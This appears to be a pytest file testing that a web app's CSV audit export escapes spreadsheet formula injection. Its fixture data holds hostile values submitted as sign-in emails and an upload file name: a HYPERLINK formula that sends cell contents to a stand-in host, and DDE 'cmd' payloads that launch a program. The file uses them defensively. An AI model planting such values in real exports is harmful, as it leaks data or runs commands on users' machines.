"""CSV exports open in a spreadsheet as data: no cell a user wrote becomes a live formula."""

from __future__ import annotations

import csv
import io

from tests.conftest import csrf_from, login

# What a hostile visitor or uploader can put where the audit trail keeps it.
EMAILS = ('=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
          "+1+1;=2+2@example.org",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\uff1dhyperlink(\"http://evil.example/\")")
FILENAME = "=2+5+cmd|' calc'!A0.csv"  # no slash: only a file name's last part is kept
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def failed_sign_in(client, email: str) -> None:
    page = client.get("/login")
    res = client.post("/login", data={"email": email, "password": "not the password",
                                      "csrf_token": csrf_from(page.get_data(as_text=True))})
    assert res.status_code == 401, res.status_code  # the form again, with an error


def test_the_audit_export_neutralises_formulas_and_keeps_the_rest(app, client, make_user,
                                                                  editor, upload):
    for email in EMAILS:
        failed_sign_in(client, email)
    doc = upload(b"name,amount\nalpha,1\n", FILENAME, account=editor)
    assert doc.status_code == 201, doc.json
    login(client, make_user("admin"))

    with client.get("/admin/audit/export.csv") as export:
        assert export.status_code == 200
        text = export.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert all(not cell.startswith(TRIGGERS) for row in rows for cell in row.values())

    failures = [r for r in rows if r["action"] == "sign-in" and r["outcome"] == "failure"]
    assert [r["actor_email"] for r in failures] == [
        "'" + e.strip().lower() for e in EMAILS]
    assert {r["detail"] for r in failures} == {"no such account"}
    [uploaded] = [r for r in rows if r["action"] == "upload"]
    assert uploaded["detail"].startswith("'" + FILENAME + " (")
    assert uploaded["actor_email"] == editor.email
    assert uploaded["target_id"] == str(doc.json["id"])
    assert all(r["event_id"].isdigit() and r["at"].endswith("Z") for r in rows)
    # Every cell is quoted (OWASP): a separator inside a cell cannot start another cell.
    first = text.splitlines()[1]
    assert first.startswith('"') and first.endswith('"')
